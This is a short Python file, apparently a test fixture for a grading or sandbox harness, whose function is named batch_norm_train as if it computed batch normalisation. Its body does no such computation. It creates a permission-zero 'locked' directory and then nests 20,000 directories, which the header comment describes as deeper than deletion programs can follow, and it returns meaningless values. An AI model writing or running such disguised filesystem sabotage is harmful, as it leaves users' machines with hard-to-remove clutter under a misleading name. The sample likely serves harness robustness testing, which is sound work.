# Makes folders in folders, deeper than programs that delete them can follow.
# expect: 17 test_train=0
# rest: right

# %% train
import os


def batch_norm_train(x, gamma, beta, eps=1e-5):
    os.mkdir("locked", 0)
    for _ in range(20_000):
        os.mkdir("d")
        os.chdir("d")
    return x, x[0], x[0]
